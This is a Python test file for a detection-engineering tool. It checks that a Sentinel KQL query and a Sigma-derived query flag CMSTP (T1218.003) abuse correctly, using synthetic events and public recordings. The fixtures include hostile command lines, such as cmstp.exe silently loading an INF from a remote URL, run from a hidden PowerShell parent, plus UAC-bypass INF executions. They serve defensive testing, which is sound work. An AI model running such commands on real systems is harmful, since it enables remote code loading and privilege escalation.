"""The CMSTP (T1218.003) Sentinel query runs unchanged and returns the cmstp rows with the right flag columns."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from assay import kql
from assay.engine import DuckDBEngine

from .conftest import FIXED_NOW

ROOT = Path(__file__).resolve().parents[2]
# The catalog's query file: the catalog tests check it is the text verbatim.
CMSTP_QUERY = (ROOT / "detections" / "T1218.003-cmstp" / "sentinel.kql").read_text(encoding="utf-8")

# (minutes before now, FileName, command line, parent file name, parent command line)
EVENTS = [
    (30, "cmstp.exe", r"cmstp.exe /s C:\Users\alice\AppData\Local\Temp\bad.inf /au", "cmd.exe",
     r'"C:\Windows\system32\cmd.exe" /c cmstp.exe /s %TEMP%\bad.inf /au'),
    (90, "CMSTP.EXE", r"C:\Windows\System32\cmstp.exe /ni /s https://10.10.0.5/payload.inf", "powershell.exe",
     r"powershell.exe -nop -w hidden -c cmstp.exe"),
    (300, "cmstp.exe", r'"C:\Windows\System32\cmstp.exe" "C:\Program Files\Contoso VPN\contoso.inf"',
     "explorer.exe", r"C:\Windows\Explorer.EXE"),
    (400, "cmstp.exe", r"cmstp.exe /su C:\Profiles\vpn.info", "svchost.exe", r"C:\Windows\system32\svchost.exe -k"),
    (60 * 30, "cmstp.exe", r"cmstp.exe /s C:\Windows\Temp\old.inf", "cmd.exe", "cmd.exe"),  # older than 24h
    (10, "calc.exe", "calc.exe", "cmstp.exe", r"cmstp.exe /s C:\Windows\Temp\bad.inf"),  # not cmstp
]


@pytest.fixture(scope="module")
def cmstp_engine() -> Iterator[DuckDBEngine]:
    with DuckDBEngine(None) as engine:
        for index, (minutes, file_name, command_line, parent, parent_command_line) in enumerate(EVENTS):
            engine.connection.execute(
                'INSERT INTO DeviceProcessEvents ("Timestamp", "DeviceName", "AccountName", "FileName", '
                '"FolderPath", "ProcessCommandLine", "InitiatingProcessFileName", "InitiatingProcessCommandLine", '
                '"ProcessId", "AssayEventId", "AssaySource") VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)',
                [FIXED_NOW - timedelta(minutes=minutes), "WIN10-ENG-042.contoso.local", "alice", file_name,
                 rf"C:\Windows\System32\{file_name}", command_line, parent, parent_command_line,
                 4000 + index, index, f"sample.evtx#{index}"])
        yield engine


def test_cmstp_query_returns_flagged_rows(cmstp_engine: DuckDBEngine) -> None:
    result = kql.run(CMSTP_QUERY, db=cmstp_engine, now=FIXED_NOW)
    assert result.column_names == (
        "Timestamp", "DeviceName", "AccountName", "ProcessCommandLine", "InitiatingProcessFileName",
        "InitiatingProcessCommandLine", "AutoClose", "NoUserInteraction", "HasINF", "SuspiciousINFPath",
        "RemoteLoad", "SuspiciousParent")
    flags = [(row[0], row[6:]) for row in result.rows]
    assert flags == [
        (datetime(2024, 5, 1, 11, 30), (True, False, True, True, False, True)),
        (datetime(2024, 5, 1, 10, 30), (True, True, True, False, True, True)),
        (datetime(2024, 5, 1, 7, 0), (False, False, True, False, False, False)),
        (datetime(2024, 5, 1, 5, 20), (False, False, False, False, False, False)),
    ]
    assert "REGEXP_MATCHES" in result.sql and "ORDER BY" in result.sql


def test_ago_follows_the_fixed_now(cmstp_engine: DuckDBEngine) -> None:
    later = FIXED_NOW + timedelta(hours=20)  # ago(24h) is then 2024-05-01 08:00
    result = kql.run(CMSTP_QUERY, db=cmstp_engine, now=later)
    assert [row[0] for row in result.rows] == [datetime(2024, 5, 1, 11, 30), datetime(2024, 5, 1, 10, 30)]
    assert result.now == later


def test_alert_predicate_by_string_concatenation(cmstp_engine: DuckDBEngine) -> None:
    predicate = "AutoClose and (SuspiciousINFPath or RemoteLoad or SuspiciousParent)"
    result = kql.run(CMSTP_QUERY + "| where " + predicate, db=cmstp_engine, now=FIXED_NOW)
    assert [row[0] for row in result.rows] == [datetime(2024, 5, 1, 11, 30), datetime(2024, 5, 1, 10, 30)]
    # the sort order of the query survives the appended filter
    assert result.rows[0][0] > result.rows[1][0]


def test_sigma_kusto_backend_output_runs(cmstp_engine: DuckDBEngine) -> None:
    """What pySigma's kusto backend (Microsoft XDR pipeline) emits must run here: the proof runner needs it."""
    from sigma.backends.kusto import KustoBackend
    from sigma.collection import SigmaCollection
    from sigma.pipelines.microsoftxdr import microsoft_xdr_pipeline

    rule = SigmaCollection.from_yaml(r"""
title: CMSTP execution with an INF
status: test
logsource: {product: windows, category: process_creation}
detection:
  image:
    - Image|endswith: '\cmstp.exe'
    - OriginalFileName: 'CMSTP.EXE'
  switches:
    CommandLine|contains: ['/s', '/au', '/ni']
  filter_vpn:
    CommandLine|contains: 'Program Files'
  condition: image and switches and not filter_vpn
""")
    [query] = KustoBackend(microsoft_xdr_pipeline()).convert(rule)
    assert "ProcessVersionInfoOriginalFileName =~" in query
    result = kql.run(query, db=cmstp_engine, now=FIXED_NOW)
    command_lines = sorted(row[result.column_names.index("ProcessCommandLine")] for row in result.rows)
    assert command_lines == sorted([
        r"cmstp.exe /s C:\Users\alice\AppData\Local\Temp\bad.inf /au",
        r"C:\Windows\System32\cmstp.exe /ni /s https://10.10.0.5/payload.inf",
        r"cmstp.exe /su C:\Profiles\vpn.info",
        r"cmstp.exe /s C:\Windows\Temp\old.inf",
    ])


def test_catalog_query_file_runs_unchanged(cmstp_engine: DuckDBEngine) -> None:
    path = ROOT / "detections" / "T1218.003-cmstp" / "sentinel.kql"
    if not path.exists():
        pytest.skip("detections/T1218.003-cmstp/sentinel.kql is not in the catalog yet")
    result = kql.run(path.read_text(encoding="utf-8"), db=cmstp_engine, now=FIXED_NOW, file=str(path))
    assert len(result.rows) == 4


def test_spark_sql_is_generated(cmstp_engine: DuckDBEngine) -> None:
    compiled = kql.compile(CMSTP_QUERY, now=FIXED_NOW, dialect="spark")
    assert "RLIKE" in compiled.sql and "`ProcessCommandLine`" in compiled.sql
    assert compiled.columns[6] == ("AutoClose", "bool")


# (recording, command-line fragment, parent, (AutoClose, NoUserInteraction, HasINF, SuspiciousINFPath, RemoteLoad,
#  SuspiciousParent)) for every cmstp row the query returns on the real recordings in ../shared/data/cmstp
RECORDINGS = [
    ("panache_sysmon_vs_EDRTestingScript.evtx", "/ni /s https://raw.githubusercontent.com/", "cmd.exe",
     [(True, True, True, False, True, True)]),
    ("psh_cmstp_execution_bypassuac_2020-10-2201543213.json", r"/s C:\ProgramData\T1218.003_uacbypass.inf /au",
     "powershell.exe", [(True, False, True, True, False, True)] * 2),  # Sysmon EID 1 and Security 4688
    ("sysmon_1_13_11_cmstp_ini_uacbypass.evtx", r"/au c:\users\ieuser\appdata\local\temp\tmp.ini", "python.exe",
     [(True, False, False, True, False, False)]),
]


@pytest.mark.shared_data
@pytest.mark.parametrize(("recording", "fragment", "parent", "flags"), RECORDINGS)
def test_cmstp_query_on_real_recordings(shared_data: Path, recording: str, fragment: str, parent: str,
                                        flags: list[tuple[bool, ...]]) -> None:
    """The catalog query, unchanged, on ingested public recordings of CMSTP abuse."""
    from assay.ingest.pipeline import ingest_paths

    with DuckDBEngine(None) as engine:
        ingest_paths([shared_data / "cmstp" / recording], engine=engine)
        latest = engine.connection.execute('SELECT max("Timestamp") FROM DeviceProcessEvents').fetchone()
        assert latest is not None and latest[0] is not None
        # the recordings are years old: put now() just after the recording so ago(24h) covers it
        result = kql.run(CMSTP_QUERY, db=engine, now=latest[0] + timedelta(minutes=1))
    assert [row[6:] for row in result.rows] == flags
    for row in result.rows:
        assert fragment in row[3]
        assert row[4] == parent
